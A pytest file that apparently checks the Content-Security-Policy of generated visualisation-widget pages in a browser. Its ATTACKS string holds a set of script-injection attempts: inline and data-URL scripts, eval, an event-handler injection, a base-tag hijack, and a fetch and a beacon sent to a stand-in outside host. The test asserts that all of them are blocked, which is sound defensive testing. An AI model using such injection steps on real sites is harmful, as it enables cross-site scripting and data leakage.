"""The Content-Security-Policy of each kind of page that we make, with somebody's markup smuggled into it."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import torch

import vaewidgets as vw
from tests.browser.lab import wait_for
from vaewidgets.live.save import page_parts
from vaewidgets.publish import frame_html, html_pieces, page_html

Maker = Callable[[vw.LatentExplorer, Path], str]
OUTSIDE = "http://elsewhere.test"
HOST = "http://lecture.test"
# What a site may demand of the pages that our pieces stand in: no script and no style but from its own files.
STRICT = (
    "default-src 'none'; script-src 'self' blob: 'wasm-unsafe-eval'; style-src 'self' 'unsafe-inline'; "
    "img-src data: blob:; base-uri 'none'; form-action 'none'"
)
# Each tries something that a page of ours never does, and says whether it could.
ATTACKS = f"""async () => {{
    const done = [];
    const add = (tag, set) => new Promise((resolve) => {{
        const element = Object.assign(document.createElement(tag), set);
        element.onload = () => {{ done.push(tag); resolve(); }};
        element.onerror = resolve;
        document.body.append(element);
        if (tag === "script" && set.textContent) resolve();
    }});
    await add("script", {{ textContent: "window.inlineRan = true" }});
    await add("script", {{ src: "{OUTSIDE}/a.js" }});
    await add("script", {{ src: "data:text/javascript,window.dataRan=true" }});
    await add("img", {{ src: "{OUTSIDE}/a.png" }});
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.handlerRan = true");
    document.body.append(button);
    button.click();
    for (const name of ["inlineRan", "dataRan", "handlerRan"]) if (window[name]) done.push(name);
    try {{ (0, eval)("1"); done.push("eval"); }} catch {{}}
    try {{ new Function("1")(); done.push("Function"); }} catch {{}}
    try {{ await fetch("{OUTSIDE}/a.json"); done.push("fetch"); }} catch {{}}
    navigator.sendBeacon("{OUTSIDE}/b", "x"); // whether it went is seen outside
    const base = document.head.appendChild(document.createElement("base"));
    base.href = "{OUTSIDE}/";
    if (document.baseURI.startsWith("{OUTSIDE}")) done.push("base");
    return done;
}}"""


@pytest.fixture(scope="module")
def explorer() -> Iterator[vw.LatentExplorer]:
    torch.manual_seed(0)
    data = vw.load_dataset("digits", n_train=128)
    model = vw.MLPVAE(data.image_shape, hidden=(16,))
    run = vw.train(model, data, epochs=1, batch_size=32, autosave=False).wait(progress=False)
    widget = vw.LatentExplorer(run)
    yield widget
    widget.close()


def page(explorer: vw.LatentExplorer, *, train: bool, framed: bool) -> str:
    parts = page_parts(explorer, train, title="t", caller="show")
    made = frame_html if framed else page_html
    text = made(parts.states, title="t", stills=parts.stills, trainings=parts.trainings)
    return f"<!doctype html><meta charset=utf-8><body>{text}" if framed else text


def a_page(explorer: vw.LatentExplorer, folder: Path) -> str:
    return page(explorer, train=False, framed=False)


def a_page_that_trains(explorer: vw.LatentExplorer, folder: Path) -> str:
    return page(explorer, train=True, framed=False)


def a_frame(explorer: vw.LatentExplorer, folder: Path) -> str:
    return page(explorer, train=False, framed=True)


def a_frame_that_trains(explorer: vw.LatentExplorer, folder: Path) -> str:
    return page(explorer, train=True, framed=True)


def a_page_of_a_site(explorer: vw.LatentExplorer, folder: Path) -> str:
    """Its programs in files, as the documentation and a book have them."""
    (state,) = page_parts(explorer, False, title="t", caller="show").states
    pieces = html_pieces({"explorer": state}, folder=folder)
    body = f"{pieces.places['explorer']}{pieces.rest}"
    return f"<!doctype html><html><head><meta charset=utf-8></head><body>{body}</body></html>"


OURS = (a_page, a_page_that_trains, a_frame, a_frame_that_trains)


def policy_of(text: str) -> dict[str, list[str]]:
    text = html.unescape(text)
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
    parts = (part.split() for part in policy.split(";"))
    return {name: sources for name, *sources in parts}


@pytest.mark.parametrize("make", OURS)
def test_a_page_allows_itself_nothing_but_its_own_program(
    make: Maker, explorer: vw.LatentExplorer, tmp_path: Path
) -> None:
    policy = policy_of(make(explorer, tmp_path))
    digest, *scripts = policy.pop("script-src")
    assert re.fullmatch(r"'sha256-[\w+/]{43}='", digest)
    trains = make in (a_page_that_trains, a_frame_that_trains)
    assert scripts == ["blob:", "'wasm-unsafe-eval'"]
    assert policy == {
        "default-src": ["'none'"],
        "worker-src": ["blob:" if trains else "'none'"],
        "style-src": ["'unsafe-inline'"],
        "img-src": ["data:", "blob:"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }


@pytest.mark.parametrize("make", [*OURS, a_page_of_a_site])
def test_what_is_smuggled_into_a_page_can_do_nothing(
    make: Maker, explorer: vw.LatentExplorer, browser: Any, tmp_path: Path
) -> None:
    text = make(explorer, tmp_path)
    asked: list[str] = []
    said: list[str] = []

    def answer(route: Any) -> None:
        url = route.request.url
        if url == f"{HOST}/":
            policy = {"Content-Security-Policy": STRICT} if make is a_page_of_a_site else {}
            route.fulfill(body=text, content_type="text/html", headers=policy)
        elif (file := tmp_path / url.rpartition("/")[2]).is_file() and url.startswith(HOST):
            kind = {".js": "text/javascript", ".css": "text/css"}[file.suffix]
            route.fulfill(body=file.read_bytes(), content_type=kind)
        else:
            asked.append(url)
            route.fulfill(body="window.outsideRan = true", headers={"Access-Control-Allow-Origin": "*"})

    context = browser.new_context(viewport={"width": 1000, "height": 900})
    context.route(re.compile("^https?:"), answer)
    try:
        shown = context.new_page()
        shown.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
        shown.goto(f"{HOST}/")
        inside = shown
        if make in (a_frame, a_frame_that_trains):
            inside = shown.locator("iframe.vw-frame").element_handle().content_frame()
        step = "document.querySelector('.vw-latent-explorer')?.vaewidgets?.step"
        trains = make in (a_page_that_trains, a_frame_that_trains)
        wait_for(
            lambda: inside.evaluate(f"{step} {'!== undefined' if trains else '> 0'}"),
            f"the widget is drawn; console: {said}",
            60,
        )
        if trains:  # from scratch
            inside.locator(".vw-latent-explorer .vw-again").first.click()
            wait_for(lambda: inside.evaluate(f"{step} > 0"), f"the page trains; console: {said}", 60)
        assert (said, asked) == ([], [])
        assert inside.evaluate(ATTACKS) == []
        assert asked == []
        assert sum("Content Security Policy" in line for line in said) >= 5
    finally:
        context.close()
